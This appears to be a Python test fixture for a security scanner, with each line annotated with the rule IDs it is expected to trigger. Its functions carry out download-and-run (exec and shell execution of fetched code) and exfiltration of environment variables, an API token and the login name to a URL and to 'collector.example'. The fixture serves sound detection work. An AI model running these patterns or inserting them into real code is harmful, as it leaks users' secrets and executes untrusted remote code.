"""Capabilities joined with a threat: download-and-run, exfiltration."""
import base64
import os
import socket
import subprocess
import urllib.request

import requests


def download_and_run(url):
    exec(requests.get(url).text)  # expect: GW-NET-002, GW-EXEC-001, GW-FLOW-001@high
    body = urllib.request.urlopen(url).read()  # expect: GW-NET-002
    subprocess.run(body, shell=True)  # expect: GW-PROC-001, GW-FLOW-001


def exfiltrate(url):
    env = dict(os.environ)  # expect: GW-SECRET-002
    requests.post(url, json=env)  # expect: GW-NET-002, GW-FLOW-002@high
    token = os.environ.get("API_TOKEN", "")  # expect: GW-SECRET-003
    requests.get(url, headers={"x": token})  # expect: GW-NET-002, GW-FLOW-002
    s = socket.create_connection(("collector.example", 80))  # expect: GW-NET-001
    s.sendall(base64.b64encode(str(os.getlogin()).encode()))  # expect: GW-SECRET-004, GW-FLOW-002
    home = os.environ["HOME"]
    requests.post(url, data=home)  # expect: GW-NET-002, GW-FLOW-002
    requests.get(os.environ["COLLECTOR_URL"])  # expect: GW-NET-002
